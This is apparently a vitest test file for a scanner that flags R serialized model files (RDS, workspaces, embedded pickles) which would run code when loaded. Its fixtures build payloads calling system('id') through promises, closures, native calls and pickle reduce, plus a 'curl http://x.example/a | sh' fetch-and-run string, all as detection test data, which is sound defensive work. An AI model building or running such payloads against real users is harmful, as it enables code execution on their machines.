import { gzipSync } from 'node:zlib';
import { describe, expect, test } from 'vitest';
import { concat, utf8 } from '#formats/test-files/bytes';
import { op, reduce, stream } from '#formats/test-files/pickle';
import {
  altrep,
  ascii,
  byteCode,
  call,
  closure,
  environment,
  globalEnvironment,
  integers,
  list,
  nil,
  pairs,
  promise,
  type R,
  raw,
  reals,
  strings,
  symbol,
  withAttributes,
  xdr,
} from '#formats/test-files/rds';
import { scanBytes } from '../test-scan.ts';

const system = call(symbol('system'), strings('id'));
const frame = withAttributes(
  list(integers(1, 2, 3), reals(3), strings('a', 'b (c)', 'https://example.com')),
  pairs({ names: strings('x', 'y', 'z'), class: strings('data.frame'), 'row.names': integers(-2147483648, -3) }),
);
const formula = withAttributes(call(symbol('~'), symbol('y'), symbol('x')), pairs({ '.Environment': globalEnvironment }));

describe('data and ordinary models are no alarm', () => {
  const cases: readonly (readonly [string, R])[] = [
    ['a data frame', frame],
    ['a linear model', list(reals(2), call(symbol('lm'), formula, symbol('d')), formula)],
    [
      'a family with functions',
      list(
        closure(call(symbol('{'), call(symbol('log'), symbol('mu')))),
        closure(byteCode([6, [6, ...nil, 0, ...symbol('exp'), 0, ...nil]])),
      ),
    ],
    ['an environment of numbers', environment(pairs({ a: reals(2) }))],
    ['a compact vector', altrep('compact_intseq', 'base')],
  ];
  test.each(cases)('%s', (_name, value) => {
    for (const bytes of [xdr(value), ascii(value), xdr(pairs({ model: value }), 'RDX3\nX\n'), new Uint8Array(gzipSync(xdr(value)))]) {
      const scan = scanBytes(bytes);
      expect([scan.verdict, scan.outcome]).toEqual(['clean', 'scanned']);
    }
    expect(scanBytes(xdr(value)).format.kind).toBe('rds');
    expect(scanBytes(ascii(value)).format.kind).toBe('rds');
  });
});

describe('what R would run is told', () => {
  const cases: readonly (readonly [string, Uint8Array, string, string])[] = [
    ['a promise where the object is expected', xdr(promise(system)), 'MDL-RDS-001', 'critical'],
    ['a promise in a workspace', xdr(pairs({ a: reals(1), x: promise(system) }), 'RDX3\nX\n'), 'MDL-RDS-001', 'critical'],
    ['a promise in ASCII', ascii(promise(system)), 'MDL-RDS-001', 'critical'],
    ['a packed promise', new Uint8Array(gzipSync(xdr(promise(system)))), 'MDL-RDS-001', 'critical'],
    ['a promise of byte code', xdr(promise(byteCode([6, [6, ...nil, 0, ...symbol('system'), 0, ...nil]]))), 'MDL-RDS-001', 'critical'],
    ['a promise in a list', xdr(list(reals(1), promise(system))), 'MDL-RDS-001', 'high'],
    ['a promise among attributes', xdr(withAttributes(reals(1), pairs({ note: promise(system) }))), 'MDL-RDS-001', 'high'],
    ['a function that starts a program', xdr(list(closure(call(symbol('{'), system)))), 'MDL-RDS-002', 'high'],
    ['a call through a package', xdr(call(call(symbol('::'), symbol('base'), symbol('system')), strings('id'))), 'MDL-RDS-002', 'high'],
    ['native code by a literal name', xdr(call(symbol('.C'), strings('system'), strings('id'))), 'MDL-RDS-002', 'high'],
    ['an active binding', xdr(environment(pairs({ x: closure(symbol('y')) }, 0x8000 << 12))), 'MDL-RDS-002', 'high'],
    ['an expression in a list', xdr([20, 1, ...call(symbol('eval'), call(symbol('parse'), strings('x')))]), 'MDL-RDS-002', 'high'],
    ['a command as text', xdr(strings('curl http://x.example/a | sh')), 'MDL-RDS-005', 'high'],
    ['a vector that a package restores', xdr(altrep('mmap_real', 'simplemmap')), 'MDL-RDS-004', 'medium'],
    ['a pickle in bytes', xdr(raw(stream(reduce('posix', 'system', op.text('id'))))), 'MDL-PKL-001', 'critical'],
    ['a pickle behind the object', concat(xdr(reals(1)), stream(reduce('posix', 'system', op.text('id')))), 'MDL-PKL-001', 'critical'],
    ['an object that breaks off', xdr(frame).slice(0, -5), 'MDL-RDS-006', 'medium'],
    ['a type that does not exist', xdr([99]), 'MDL-RDS-006', 'medium'],
    ['a vector that is longer than the file', xdr([13, 2_000_000_000]), 'MDL-RDS-006', 'medium'],
  ];
  test.each(cases)('%s', (_name, bytes, rule, level) => {
    const scan = scanBytes(bytes);
    expect(scan.severities.get(rule)).toBe(level);
  });

  test('the call is written down', () => {
    expect(scanBytes(xdr(promise(system))).observations[0]?.evidence?.reconstruction).toBe('system("id")');
  });
});

test('nesting ends at a bound, which is told', () => {
  for (const open of [[19, 1], [2], [6, 254], [5], [4, 0]])
    expect(scanBytes(concat(xdr([]), ...Array.from({ length: 20_000 }, () => xdr(open).slice(xdr([]).length)))).rules).toContain(
      'MDL-ART-002',
    );
});

test('a sentence that begins like an object is text', () => {
  expect(scanBytes(utf8('A\n3 apples\nX\n')).format.kind).toBe('text');
});
